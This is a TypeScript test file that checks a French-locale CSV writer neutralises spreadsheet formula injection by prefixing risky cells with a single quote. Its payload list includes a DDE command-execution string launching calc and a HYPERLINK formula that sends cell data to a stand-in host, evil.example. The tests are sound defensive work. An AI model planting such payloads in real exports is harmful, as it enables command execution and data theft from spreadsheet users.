/**
 * CSV or formula injection (OWASP): a text cell that a spreadsheet would read
 * as a formula comes out of the one CSV writer with a leading single quote,
 * still quoted and escaped as CSV requires; numbers the code formats stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { toFrenchCsv } from '../../shared/csv';

/** The cells of a one-row CSV, as a reader following RFC 4180 (with `;`) gets them back. */
function cellsOf(csv: string): string[] {
  const line = csv.replace(/^\uFEFF/, '').replace(/\r\n$/, '');
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else value += line[i++];
      }
      cells.push(value);
      i++; // the separator
    } else {
      const end = line.indexOf(';', i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}

describe('CSV formula injection', () => {
  it.each([
    ['=1+1'],
    ["+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(1)'],
    ['\t=1'],
    ['\r=1'],
    ['=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'],
    ['\0=1'],
  ])('writes the text %j with a leading single quote, so the spreadsheet shows it as text', (payload) => {
    const csv = toFrenchCsv([['Projet', payload, 'Organisme']]);
    const cells = cellsOf(csv);
    expect(cells).toEqual(['Projet', `'${payload}`, 'Organisme']);
    // No cell of the file, once parsed, starts with a formula character.
    expect(cells.every((c) => !/^[=+\-@\t\r\0]/.test(c))).toBe(true);
  });

  it('keeps quoting and escaping correct around the quote it adds', () => {
    expect(toFrenchCsv([['=HYPERLINK("x";"y")']])).toBe('\uFEFF"\'=HYPERLINK(""x"";""y"")"\r\n');
    expect(toFrenchCsv([['\r=1']])).toBe('\uFEFF"\'\r=1"\r\n');
    expect(toFrenchCsv([['-2+3']])).toBe("\uFEFF'-2+3\r\n");
  });

  it('leaves text that starts otherwise untouched, including a formula character further in', () => {
    expect(cellsOf(toFrenchCsv([['Halte-répit', 'A=B', ' =1', 'Café @ midi', "L'Entraide"]]))).toEqual([
      'Halte-répit',
      'A=B',
      ' =1',
      'Café @ midi',
      "L'Entraide",
    ]);
  });

  it('writes numbers the code formats as numbers, negative ones included, and nothing for a value that is not a number', () => {
    expect(toFrenchCsv([[-1.25, -3, 0, 72.5, Number.NaN, Number.NEGATIVE_INFINITY]])).toBe('\uFEFF-1,25;-3;0;72,50;;\r\n');
  });
});
